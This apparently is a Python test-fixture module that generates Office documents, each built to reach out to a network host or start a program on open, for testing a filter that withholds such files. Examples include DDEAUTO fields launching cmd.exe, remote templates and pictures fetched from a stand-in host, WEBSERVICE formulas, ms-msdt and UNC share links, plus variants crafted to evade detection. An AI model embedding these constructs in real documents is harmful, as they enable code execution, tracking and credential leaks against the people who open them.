"""Office documents that reach out, built as their format allows it, each under the name of its trick.

They are whole enough for LibreOffice to open them. Sources: what programs that look for attacks are tested with
(oletools, Apache POI), ECMA-376, [MS-OE376], and ways round readers of XML and ZIP.
"""

from __future__ import annotations

import functools
import io
import zipfile
from collections.abc import Callable, Mapping

from tests.content.papers import office

HOST = "http://evil.example"
_SCHEMAS = "http://schemas.openxmlformats.org"
_TYPE = f"{_SCHEMAS}/officeDocument/2006/relationships"
_SPACES = (
    f'xmlns:w="{_SCHEMAS}/wordprocessingml/2006/main" xmlns:r="{_TYPE}" xmlns:a="{_SCHEMAS}/drawingml/2006/main" '
    f'xmlns:wp="{_SCHEMAS}/drawingml/2006/wordprocessingDrawing" xmlns:pic="{_SCHEMAS}/drawingml/2006/picture" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:q="urn:none" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="q"'
)
_CELLS = f'xmlns="{_SCHEMAS}/spreadsheetml/2006/main" xmlns:r="{_TYPE}" xmlns:q="urn:none"'
_BOOK = f'<workbook {_CELLS}><sheets><sheet name="A" sheetId="1" r:id="s1"/></sheets>{{}}</workbook>'
_SHEET = "<worksheet {0}>{2}<sheetData><row r='1'><c r='A1'>{1}</c></row></sheetData>{3}</worksheet>"
_KINDS = "application/vnd.openxmlformats-officedocument."
_MAINS = {
    "docx": ("word/document.xml", "wordprocessingml.document.main"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main"),
}
_DRAWN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" width="9" height="9">{}</svg>'
FETCHING_DRAWING = _DRAWN.format(f'<image width="9" height="9" xlink:href="{HOST}/a.png"/>')
_OPEN_DOCUMENT = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text><text:p><draw:frame><draw:image '
    f'xlink:href="{HOST}/a.png"/></draw:frame></text:p></office:text></office:body></office:document-content>'
)
_MANIFEST = (
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
    'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>'
)


def relations(*each: tuple[str, str, str], more: str = "") -> str:
    """A list of relations: number, kind, target; a target on the web is external."""
    rows = "".join(
        f'<Relationship Id="{number}" Type="{_TYPE}/{kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if "://" in target else ""}/>'
        for number, kind, target in each
    )
    return f'<Relationships xmlns="{_SCHEMAS}/package/2006/relationships">{rows}{more}</Relationships>'


def _types(kind: str, more: Mapping[str, str]) -> str:
    main, stated = _MAINS[kind]
    rows = "".join(
        f'<Override PartName="/{part}" ContentType="{_KINDS}{what}+xml"/>'
        for part, what in {main: stated, **more}.items()
    )
    return (
        f'<Types xmlns="{_SCHEMAS}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>{rows}</Types>'
    )


def packed(kind: str, parts: Mapping[str, str | bytes], kinds: Mapping[str, str] | None = None) -> bytes:
    """A package of these parts, whose first relation leads to its usual main part unless `parts` say otherwise."""
    whole = {
        "[Content_Types].xml": _types(kind, kinds or {}),
        "_rels/.rels": relations(("m", "officeDocument", _MAINS[kind][0])),
        **parts,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in whole.items():
            archive.writestr(name, content)
    return out.getvalue()


def body(content: str, root: str = "document") -> str:
    inside = f"<w:body>{content}</w:body>" if root == "document" else content
    return f"<w:{root} {_SPACES}>{inside}</w:{root}>"


def text(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(words: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{words}</w:instrText></w:r>'


def field(*pieces: str) -> str:
    """A field whose code is in these pieces, and its result."""
    return (
        f"<w:p>{mark('begin')}{''.join(pieces)}{mark('separate')}<w:r><w:t>x</w:t></w:r>{mark('end')}</w:p>"
    )


FETCH = f' INCLUDEPICTURE "{HOST}/a.png" \\d '
_SHOWN = (
    '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="99999" cy="99999"/><wp:docPr id="1" name="a"/><a:graphic>'
    f'<a:graphicData uri="{_SCHEMAS}/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="a"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip {}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="99999" cy="99999"/>'
    '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
)
_OWN, _LINKED = _SHOWN.format('r:embed="p"'), _SHOWN.format('r:link="p"')


def word(content: str, rels: str = "", kinds: Mapping[str, str] | None = None, **parts: str | bytes) -> bytes:
    """A Word file with this body; `parts` by name, `__` for a slash and `_xml` for an ending."""
    named = {_name(name): part for name, part in parts.items()}
    rels = rels or relations()
    return packed(
        "docx", {"word/document.xml": body(content), "word/_rels/document.xml.rels": rels, **named}, kinds
    )


def book(
    formula: str = "",
    *,
    before: str = "",
    after: str = "",
    names: str = "",
    rels: str = "",
    **parts: str | bytes,
) -> bytes:
    """A workbook whose cell A1 has a formula; `before` and `after` are around the cells of the sheet."""
    place = "xl/worksheets/sheet1.xml"
    named = {
        "xl/workbook.xml": _BOOK.format(names),
        "xl/_rels/workbook.xml.rels": relations(("s1", "worksheet", "worksheets/sheet1.xml")),
        place: _SHEET.format(_CELLS, formula or "<v>1</v>", before, after),
        "xl/worksheets/_rels/sheet1.xml.rels": rels or relations(),
        **{_name(name): part for name, part in parts.items()},
    }
    return packed("xlsx", named, {place: "spreadsheetml.worksheet"})


def _name(name: str) -> str:
    return name.replace("__", "/").replace("_xml", ".xml").replace("_png", ".png").replace("_svg", ".svg")


@functools.cache
def _slides() -> bytes:
    from pptx import Presentation

    deck, out = Presentation(), io.BytesIO()
    deck.slides.add_slide(deck.slide_layouts[0]).shapes.title.text = "a"
    deck.save(out)
    return out.getvalue()


def slides(change: Callable[[str, str], str], **parts: str | bytes) -> bytes:
    """A presentation of one slide, whose parts are changed by `change(name, content)`."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(_slides())) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            content = old.read(name)
            is_text = name.endswith((".xml", ".rels"))
            new.writestr(name, change(name, content.decode()).encode() if is_text else content)
        for name, part in parts.items():
            new.writestr(_name(name), part)
    return out.getvalue()


def _on_slide(link: str, kind: str, target: str) -> bytes:
    """A slide whose title has this link (`…{}…` is where its relation is named)."""
    mode = ' TargetMode="External"' if "media/" not in target else ""

    def change(name: str, content: str) -> str:
        if name == "ppt/slides/slide1.xml":
            at = content.index("<p:cNvPr ")
            end = content.index("/>", at)
            return content[:end] + ">" + link + "</p:cNvPr>" + content[end + 2 :]
        if name == "ppt/slides/_rels/slide1.xml.rels":
            return content.replace(
                "</Relationships>",
                f'<Relationship Id="x" Type="{_TYPE}/{kind}" Target="{target}"{mode}/></Relationships>',
            )
        return content

    return slides(change)


def _beside(name: str, kind: str, target: str) -> bytes:
    """A presentation one part of which has a relation to another machine."""
    row = f'<Relationship Id="x" Type="{_TYPE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return slides(lambda part, content: content.replace("</Relationships>", row) if part == name else content)


def _header(content: str, kind: str = "header", root: str = "hdr") -> bytes:
    """A Word file with something in its header, its footer or a note."""
    parts = {f"word/{kind}1.xml": body(content, root)}
    section = (
        f'<w:sectPr><w:{kind}Reference w:type="default" r:id="h"/></w:sectPr>'
        if root in {"hdr", "ftr"}
        else ""
    )
    main = {"word/document.xml": body(text("a") + section)}
    rels = {"word/_rels/document.xml.rels": relations(("h", kind, f"{kind}1.xml"))}
    return packed("docx", {**main, **rels, **parts}, {f"word/{kind}1.xml": f"wordprocessingml.{kind}"})


def _choice(chosen: str, other: str) -> str:
    return f'<mc:AlternateContent><mc:Choice Requires="q">{chosen}</mc:Choice><mc:Fallback>{other}</mc:Fallback></mc:AlternateContent>'


def _main_elsewhere(place: str, content: bytes) -> bytes:
    parts = {
        "word/document.xml": body(text("a")),
        place: content,
        "_rels/.rels": relations(("m", "officeDocument", place)),
    }
    return packed("docx", parts, {place: "wordprocessingml.document.main"})


_REMOTE = body(field(code(FETCH)))
_BOX = '<w:r><w:pict><v:shape style="width:99pt;height:99pt"><v:textbox><w:txbxContent>{}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>'
_PICTURE = '<w:p><w:r><w:pict><v:shape style="width:99pt;height:99pt">{}</v:shape></w:pict></w:r></w:p>'
_DDE = r" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; "
_IN_LIST = f'Type="{_TYPE}/image"'
_LINK = '<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="x"{}/>'
_WEB = f'WEBSERVICE("{HOST}/a")'
_VIDEO = '<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;http://evil.example/&quot;&gt;"/>'
_CONDITION = (
    '<conditionalFormatting sqref="A1"><cfRule type="{0}" priority="1">{1}</cfRule></conditionalFormatting>'
)

WORD: Mapping[str, bytes] = {
    "dde": word(field(code(_DDE))),
    "dde in runs": word(field(code("D"), code("DE"), code(r"AUTO c:\\x "))),
    "dde by references": word(field(code("&#68;&#x44;EAUTO x y"))),
    "dde in one element": word(f'<w:p><w:fldSimple w:instr="{_DDE}"/></w:p>'),
    "dde behind words of another program": word(field(_choice(code("PAGE "), ""), code(_DDE))),
    "dde behind deleted words": word(field(f'<w:del w:id="1" w:author="a">{code("PAGE ").replace("instrText", "delInstrText")}</w:del>', code(_DDE))),
    "dde behind words that nobody reads": word(field("<q:a>" + code("PAGE ") + "</q:a>", code(_DDE))),
    "dde behind a foreign code": word(field(code("PAGE ").replace("w:instrText", "q:instrText"), code(_DDE))),
    "dde behind an unknown element": word(field("<w:r><w:instrText><q:a>PAGE </q:a>DDEAUTO a b</w:instrText></w:r>")),
    "dde behind a foreign end": word(f'<w:p>{code("PAGE ")}{mark("begin")}<q:fldChar w:fldCharType="end"/>{code(_DDE)}{mark("end")}</w:p>'),
    "dde behind two kinds of mark": word(field(code(_DDE)).replace('w:fldCharType="begin"', 'w:fldCharType="begin" q:fldCharType="end"')),
    "dde from a field inside": word(field(mark("begin") + code("QUOTE 68 68 69") + mark("separate") + mark("end"))),
    "dde from a field inside, with words": word(field(mark("begin") + code("REF a") + mark("end"), code(r" c:\\x"))),
    "dde without an end": word(f"<w:p>{mark('begin')}{code(_DDE)}</w:p>"),
    "dde outside a field": word(f"<w:p>{code(_DDE)}</w:p>"),
    "dde as usual words": word(field(f"<w:r><w:t>{_DDE}</w:t></w:r>")),
    "a fetched picture": word(field(code(FETCH))),
    "a fetched picture as usual words": word(field(f"<w:r><w:t>{FETCH}</w:t></w:r>")),
    "a fetched picture in one element": word(f"<w:p><w:fldSimple w:instr='{FETCH}'/></w:p>"),
    "a fetched picture in a header": _header(field(code(FETCH))),
    "a fetched picture in a footer": _header(field(code(FETCH)), "footer", "ftr"),
    "a fetched picture in a note": _header(f'<w:footnote w:id="2">{field(code(FETCH))}</w:footnote>', "footnotes", "footnotes"),
    "a fetched picture in an endnote": _header(f'<w:endnote w:id="2">{field(code(FETCH))}</w:endnote>', "endnotes", "endnotes"),
    "a fetched picture in a text box": word(f"<w:p>{_BOX.format(field(code(FETCH)))}</w:p>"),
    "an import in a text box": word(f"<w:p>{_BOX.format(field(code(FETCH.replace('INCLUDEPICTURE', 'IMPORT'))))}</w:p>"),
    "an included text": word(field(code(f'INCLUDETEXT "{HOST}/a.docx"'))),
    "a linked object": word(field(code(f'LINK Word.Document.12 "{HOST}/a.docx"'))),
    "a referenced document": word(field(code(f'RD "{HOST}/a.docx"'))),
    "a button of a macro": word(field(code("MACROBUTTON a b"))),
    "a template": packed("docx", {"word/document.xml": body(text("a")), "word/_rels/document.xml.rels": relations(("s", "settings", "settings.xml")), "word/settings.xml": body('<w:attachedTemplate r:id="t"/>', "settings"), "word/_rels/settings.xml.rels": relations(("t", "attachedTemplate", f"{HOST}/a.dotm"))}),
    "a linked picture": word(_LINKED, relations(("p", "image", f"{HOST}/a.png"))),
    "a picture beside a decoy": word(_LINKED, relations(more=f'<Relationship xmlns:q="urn:none" Id="p" {_IN_LIST} Target="{HOST}/a.png" TargetMode="External" q:Target="media/a.png" q:TargetMode="Internal"/>')),
    "a picture by references": word(_LINKED, relations(more=f'<Relationship Id="p" {_IN_LIST} Target="{HOST}/a.png" TargetMode="&#69;xternal"/>')),
    "a picture without the mode": word(_LINKED, relations(more=f'<Relationship Id="p" {_IN_LIST} Target="{HOST}/a.png"/>')),
    "a picture of strict names": word(_LINKED.replace(_SCHEMAS, "http://purl.oclc.org/ooxml"), relations(("p", "image", f"{HOST}/a.png")).replace(f"{_TYPE}/image", "http://purl.oclc.org/ooxml/officeDocument/relationships/image")),
    "a picture in a header": packed("docx", {"word/document.xml": body(text("a") + '<w:sectPr><w:headerReference w:type="default" r:id="h"/></w:sectPr>'), "word/_rels/document.xml.rels": relations(("h", "header", "header1.xml")), "word/header1.xml": body(_LINKED, "hdr"), "word/_rels/header1.xml.rels": relations(("p", "image", f"{HOST}/a.png"))}, {"word/header1.xml": "wordprocessingml.header"}),
    "a picture of VML": word(_PICTURE.format(f'<v:imagedata src="{HOST}/a.png"/>')),
    "a picture of VML by a link": word(_PICTURE.format(f'<v:imagedata o:href="{HOST}/a.png"/>')),
    "a filling of VML": word(_PICTURE.format(f'<v:fill type="frame" o:althref="{HOST}/a.png"/>')),
    "a background of VML": packed("docx", {"word/document.xml": f'<w:document {_SPACES}><w:background w:color="FFFFFF"><v:background><v:fill type="frame" o:href="{HOST}/a.png"/></v:background></w:background><w:body>{text("a")}</w:body></w:document>'}),
    "a picture of a bullet": word(text("a"), relations(("n", "numbering", "numbering.xml")), word__numbering_xml=body(f'<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape><v:imagedata src="{HOST}/a.png"/></v:shape></w:pict></w:numPicBullet>', "numbering")),
    **{
        f"a picture of {part}": word(text("a"), **{f"word__{part}_xml": "<a/>", f"word___rels__{part}_xml.rels": relations(("p", "image", f"{HOST}/a.png"))})
        for part in ("comments", "theme__theme1", "charts__chart1", "diagrams__data1", "glossary__document", "webSettings", "fontTable")
    },
    "a typeface": word(text("a"), word__fontTable_xml="<a/>", word___rels__fontTable_xml__rels="", **{"word/_rels/fontTable.xml.rels": relations(("p", "font", f"{HOST}/a.odttf"))}),
    "a frame": word(text("a"), **{"word/_rels/webSettings.xml.rels": relations(("f", "frame", f"{HOST}/a.htm"))}),
    "a drawing that fetches": word(_OWN, relations(("p", "image", "media/a.svg")), word__media__a_svg=FETCHING_DRAWING),
    "a drawing that fetches, as a picture": word(_OWN, relations(("p", "image", "media/a.png")), word__media__a_png=FETCHING_DRAWING),
    "a drawing with a style sheet": word(_OWN, relations(("p", "image", "media/a.svg")), word__media__a_svg=_DRAWN.format(f"<style>@import url({HOST}/a.css);</style>")),
    "a drawing with a script": word(_OWN, relations(("p", "image", "media/a.svg")), word__media__a_svg=_DRAWN.format("<script>alert(1)</script>")),
    "a page of PostScript as a picture": word(_OWN, relations(("p", "image", "media/a.png")), word__media__a_png="%!PS-Adobe-3.0 EPSF-3.0\n(a) run"),
    "the main part as a picture": _main_elsewhere("word/media/a.png", _REMOTE.encode()),
    "the main part as a picture behind a remark": _main_elsewhere("word/media/a.png", b"<!--ftyp-->" + _REMOTE.encode()),
    "the main part as a typeface": _main_elsewhere("word/fonts/a.odttf", _REMOTE.encode()),
    "the main part as settings in UTF-16": _main_elsewhere("word/printerSettings1.bin", _REMOTE.encode("utf-16")),
    "the main part as settings in UTF-16 without a mark": _main_elsewhere("word/printerSettings1.bin", _REMOTE.encode("utf-16-be")),
    "a main part in UTF-16": packed("docx", {"word/document.xml": _REMOTE.encode("utf-16")}),
    "a main part in UTF-32": packed("docx", {"word/document.xml": _REMOTE.encode("utf-32")}),
    "a main part in the Thai code of Windows": packed("docx", {"word/document.xml": b'<?xml version="1.0" encoding="windows-874"?>' + body(text("กข")).encode("cp874")}),
    "a part that is included": word(text("a") + '<w:altChunk r:id="c"/>', relations(("c", "aFChunk", "a.xml")), word__a_xml="<a/>"),
    "a page that is included": word(text("a") + '<w:altChunk r:id="c"/>', relations(("c", "aFChunk", "afchunk.htm")), **{"word/afchunk.htm": f'<img src="{HOST}/a.png">'}),
    "a document that is included": word(text("a") + '<w:altChunk r:id="c"/>', relations(("c", "aFChunk", "embeddings/a.docx")), **{"word/embeddings/a.docx": word(text("a"))}),
    "a part of a document elsewhere": word('<w:subDoc r:id="d"/>', relations(("d", "subDocument", f"{HOST}/a.docx"))),
    "an object": word(text("a"), relations(("o", "oleObject", "embeddings/oleObject1.bin")), **{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "an object elsewhere": word('<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Word.Document.8" r:id="o"/></w:object></w:r></w:p>', relations(("o", "oleObject", f"{HOST}/a.doc"))),
    "a document inside that fetches": word(text("a"), relations(("o", "package", "embeddings/a.docx")), **{"word/embeddings/a.docx": word(field(code(FETCH)))}),
    "a control": word(text("a"), relations(("o", "control", "activeX/activeX1.xml")), word__activeX__activeX1_xml="<a/>"),
    "a control of another name": word(text("a"), relations(("o", "control", "a1.xml")), word__a1_xml="<a/>"),
    "a page of a film": word(_PICTURE.format(_VIDEO)),
    "a source of letters": word(text("a"), word__settings_xml=body('<w:mailMerge><w:connectString w:val="Provider=x;Data Source=\\\\evil.example\\a"/></w:mailMerge>', "settings")),
    "a pane": word(text("a"), **{"_rels/.rels": relations(("m", "officeDocument", "word/document.xml"), ("w", "webextensiontaskpanes", "word/webextensions/taskpanes.xml")), "word/webextensions/taskpanes.xml": "<a/>"}),
    "a document of another program": packed("docx", {"word/document.xml": body(text("a")), "META-INF/manifest.xml": _MANIFEST, "content.xml": _OPEN_DOCUMENT}),
    "a link to a disk": word(text("a"), relations(("l", "hyperlink", "file://evil.example/a"))),
    "a link to a share": word(text("a"), relations(more=f'<Relationship Id="l" Type="{_TYPE}/hyperlink" Target="\\\\evil.example\\a" TargetMode="External"/>')),
    "a link to a program": word(text("a"), relations(more=f'<Relationship Id="l" Type="{_TYPE}/hyperlink" Target="a.exe" TargetMode="External"/>')),
    "a link to a tool of Windows": word(text("a"), relations(("l", "hyperlink", "ms-msdt:/id://a"))),
    "a link in a field to a share": word(field(code('HYPERLINK "\\\\\\\\evil.example\\\\a"'))),
}  # fmt: skip
"""Word files, each of which must be withheld."""

EXCEL: Mapping[str, bytes] = {
    "a formula": book(f"<f>{_WEB}</f>"),
    "a formula with a blank": book(f"<f>{_WEB.replace('(', ' (')}</f>"),
    "a formula with a line": book(f"<f>{_WEB.replace('(', chr(10) + '(')}</f>"),
    "a formula of the future": book(f"<f>_xlfn.{_WEB}</f>"),
    "a formula in parts": book(f"<f>WEB<!-- a -->SERVICE(&quot;{HOST}&quot;)</f>"),
    "a formula behind an element": book(f"<f>SUM(A2)<q:a/>{_WEB}</f>"),
    "a formula as data": book(f"<f>SUM(A2)+<![CDATA[{_WEB}]]></f>"),
    "a picture of a formula": book(f'<f>_xlfn.IMAGE("{HOST}/a.png")</f>'),
    "a program": book("<f>cmd|'/C calc'!A0</f>"),
    "a program by a function": book('<f>DDE("soffice","a","b")</f>'),
    "a service of data": book('<f>RTD("a",,"b")</f>'),
    "a workbook elsewhere": book(f"<f>'{HOST}/[a.xlsx]A'!A1</f>"),
    "a workbook elsewhere, as LibreOffice writes it": book(f"<f>'{HOST}/a.ods'#$A.A1</f>"),
    "a workbook beside": book("<f>[a.xlsx]A!A1</f>"),
    "a workbook by words of other cells": book("<f>INDIRECT(B1&amp;CHAR(47)&amp;C1)</f>"),
    "a workbook by a word of a condition": book(after=_CONDITION.format("expression", "<formula>INDIRECT(B1)</formula>")),
    "a workbook by a word": book(f"<f>INDIRECT(&quot;'{HOST}/[a.xlsx]A'!A1&quot;)</f>"),
    "a formula of a name": book(names=f"<definedNames><definedName name='a'>{_WEB}</definedName></definedNames>"),
    "a formula of a condition": book(after=_CONDITION.format("expression", f"<formula>{_WEB}</formula>")),
    "a formula of a scale": book(after=_CONDITION.format("colorScale", f"<colorScale><cfvo type='formula' val='{_WEB}'/><cfvo type='max'/></colorScale>")),
    "a formula of a check": book(after=f"<dataValidations><dataValidation sqref='A1'><formula1>{_WEB}</formula1></dataValidation></dataValidations>"),
    "a formula of a pivot": book(xl__pivotCache__pivotCacheDefinition1_xml=f"<pivotCacheDefinition><cacheFields><cacheField name='a' formula='{_WEB}'/></cacheFields></pivotCacheDefinition>"),
    "a formula in a sheet at another place": packed("xlsx", {"xl/workbook.xml": _BOOK.format(""), "xl/_rels/workbook.xml.rels": relations(("s1", "worksheet", "/theme/sheet1.xml")), "theme/sheet1.xml": _SHEET.format(_CELLS, f"<f>{_WEB}</f>", "", "")}, {"theme/sheet1.xml": "spreadsheetml.worksheet"}),
    "a macro of a shape": book(xl__drawings__drawing1_xml=f"<a><b macro=\"'{HOST}/[a.xlsm]A'!b\"/></a>"),
    "a macro of a button": book(xl__ctrlProps__ctrlProp1_xml=f"<formControlPr fmlaMacro=\"'{HOST}/[a.xlsm]A'!b\"/>"),
    "a macro of an old button": book(**{"xl/drawings/vmlDrawing1.vml": f"<a><FmlaMacro>'{HOST}/[a.xlsm]A'!b</FmlaMacro></a>"}),
    "a link of a formula": book('<f>HYPERLINK("file://evil.example/a","b")</f>'),
    "a background": book(after="<picture r:id='p'/>", rels=relations(("p", "image", f"{HOST}/a.png"))),
    "a place to write to": book(after="<webPublishItems count='1'><webPublishItem id='1' divId='a' sourceType='sheet' destinationFile='\\\\evil.example\\a.htm'/></webPublishItems>"),
    **{
        f"a {kind}": book(rels=relations(("x", kind, f"../{kind}1.xml")), **{f"xl/{kind}1.xml": "<a/>"})
        for kind in ("externalLink", "connections", "queryTable", "xmlMaps", "xlMacrosheet", "dialogsheet", "volatileDependencies", "webextension", "control", "oleObject")
    },
    "a pivot elsewhere": book(**{"xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels": relations(("x", "externalLinkPath", f"{HOST}/a.xlsx"))}),
    "a link elsewhere": book(**{"xl/externalLinks/externalLink1.xml": "<a/>", "xl/externalLinks/_rels/externalLink1.xml.rels": relations(("x", "externalLinkPath", f"{HOST}/a.xlsx"))}),
    "a web query": book(xl__connections_xml=f"<connections><connection id='1' name='a' type='4'><webPr url='{HOST}/a'/></connection></connections>"),
}  # fmt: skip
"""Workbooks, each of which must be withheld."""

POWERPOINT: Mapping[str, bytes] = {
    "a program on a click": _on_slide(_LINK.format(' action="ppaction://program"'), "hyperlink", "calc.exe"),
    "a program without an ending": _on_slide(
        _LINK.format(' action="ppaction://program"'), "hyperlink", "calc"
    ),
    "a program in large letters": _on_slide(
        _LINK.format(' action="PPAction://Program"'), "hyperlink", "calc"
    ),
    "a macro on a click": _on_slide(_LINK.format(' action="ppaction://macro?name=a"'), "hyperlink", "a"),
    "an object's verb": _on_slide(_LINK.format(' action="ppaction://ole?verb=0"'), "hyperlink", "a"),
    "a page without a click": _on_slide(
        _LINK.format("").replace("hlinkClick", "hlinkHover"), "hyperlink", f"{HOST}/a"
    ),
    "a page without a click on words": _on_slide(
        _LINK.format("").replace("hlinkClick", "hlinkMouseOver"), "hyperlink", f"{HOST}/a"
    ),
    "a share on a click": _on_slide(_LINK.format(""), "hyperlink", "file://evil.example/a"),
    **{
        f"a linked {kind}": _on_slide("", kind, f"{HOST}/a")
        for kind in (
            "image",
            "video",
            "audio",
            "media",
            "oleObject",
            "slideUpdateUrl",
            "htmlPubSaveAs",
            "control",
            "font",
        )
    },
    **{
        f"a picture of {place}": _beside(f"ppt/{folder}/_rels/{place}.xml.rels", "image", f"{HOST}/a.png")
        for folder, place in (
            ("slideLayouts", "slideLayout1"),
            ("slideMasters", "slideMaster1"),
            ("_rels/..", "presentation"),
        )
        if place != "presentation"
    },
    "a sound that is no film": slides(lambda _name, content: content, **{"ppt/media/a.wav": b"RIFF"}),
    "a slide as a picture": slides(lambda _name, content: content, **{"ppt/media/a.png": "<p:sld/>"}),
}
"""Presentations, each of which must be withheld."""
_TO_CLICK = relations(("p", "hyperlink", f"{HOST}/a.png"))
_CLICKED = '<w:p><w:hyperlink r:id="p"><w:r><w:t>a</w:t></w:r></w:hyperlink></w:p>'
_PICTURE_OF_SLIDE = (
    '<p:pic><p:nvPicPr><p:cNvPr id="9" name="x"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="x"/><a:stretch><a:fillRect/></a:stretch>'
    '</p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="99999" cy="99999"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic></p:spTree>'
)


def _shown_link(name: str, content: str) -> str:
    if name == "ppt/slides/_rels/slide1.xml.rels":
        row = f'<Relationship Id="x" Type="{_TYPE}/hyperlink" Target="{HOST}/a.png" TargetMode="External"/></Relationships>'
        return content.replace("</Relationships>", row)
    return content.replace("</p:spTree>", _PICTURE_OF_SLIDE) if name == "ppt/slides/slide1.xml" else content


SHOWN_LINKS: Mapping[str, tuple[str, bytes]] = {
    "docx: a picture that shows what a link leads to": ("docx", word(_LINKED, _TO_CLICK)),
    "docx: a link and a picture of one relation": ("docx", word(_CLICKED + _LINKED, _TO_CLICK)),
    "docx: an old drawing of a link": ("docx", word(_PICTURE.format('<v:imagedata o:relid="p"/>'), _TO_CLICK)),
    "docx: a template that is a link": ("docx", word(text("a"), word__settings_xml=f'<w:settings {_SPACES}><w:attachedTemplate r:id="p"/></w:settings>', **{"word/_rels/settings.xml.rels": _TO_CLICK})),
    "docx: a list of relations in other letters": ("docx", packed("docx", {"word/document.xml": body(_LINKED), "word/_rels/Document.XML.rels": _TO_CLICK})),
    "xlsx: a background that is a link": ("xlsx", book(after='<picture r:id="p"/>', rels=_TO_CLICK)),
    "pptx: a picture that shows what a link leads to": ("pptx", slides(_shown_link)),
}  # fmt: skip
"""A link to click is allowed; a picture of it is fetched when the document opens (by LibreOffice 7.4 for the first two and the slide)."""
ATTACKS: Mapping[str, tuple[str, bytes]] = {
    **{f"docx: {name}": ("docx", data) for name, data in WORD.items()},
    **{f"xlsx: {name}": ("xlsx", data) for name, data in EXCEL.items()},
    **{f"pptx: {name}": ("pptx", data) for name, data in POWERPOINT.items()},
    **SHOWN_LINKS,
}


def _stored(names: tuple[str, ...], **options: bool) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", **options) as archive:
        archive.writestr("[Content_Types].xml", _types("docx", {}))
        archive.writestr("_rels/.rels", relations(("m", "officeDocument", "word/document.xml")))
        for name in names:
            archive.writestr(name, body(text("a")))
    return out.getvalue()


TWO_FACED: Mapping[str, bytes] = {
    "names that differ in letters": _stored(("word/document.xml", "word/Document.xml")),
    "names with a backslash": _stored(("word/document.xml", "word\\header1.xml")),
    "names with a way up": _stored(("word/document.xml", "word/../word/x.xml")),
    "names with a colon": _stored(("word/document.xml", "word/a.xml:b.xml")),
}
"""Archives that programs unpack in different ways."""
HARMLESS: Mapping[str, bytes] = {
    "a document": word(text("a") + field(code(" PAGE ")) + field(code(" TOC \\o "), code('"1-3"'))),
    "a link": word(text("a"), relations(("l", "hyperlink", "https://www.cdd.go.th/a.exe"))),
    "a field in a field": word(field(code(" IF "), mark("begin"), code("PAGE"), mark("separate"), "<w:r><w:t>1</w:t></w:r>", mark("end"), code(' = 1 "a" "b"'))),
    "a field in a result": word(f"<w:p>{mark('begin')}{code('TOC ')}{mark('separate')}{field(code('PAGEREF a'))}{mark('end')}</w:p>"),
    "a workbook": book("<f>SUM (A2:A3)+IF(A2>0 ,(1),2)</f>"),
    "a list that depends on a cell": book(after="<dataValidations><dataValidation type='list' sqref='A1'><formula1>INDIRECT($B$1)</formula1></dataValidation></dataValidations>"),
    "a name of the same workbook": book("<f>[0]!a+'ก ข'!A1+ตาราง1[ชาย]</f>"),
    "a slide's link": _on_slide(_LINK.format(' action="ppaction://hlinkshowjump?jump=nextslide"'), "hyperlink", "https://www.cdd.go.th"),
    "a description behind the file": _stored(("word/document.xml",)),
    "a link beside its own picture": word(_CLICKED + _SHOWN.format('r:embed="q"'), _TO_CLICK),
    "an old file": office(),
}  # fmt: skip
"""What must be published."""
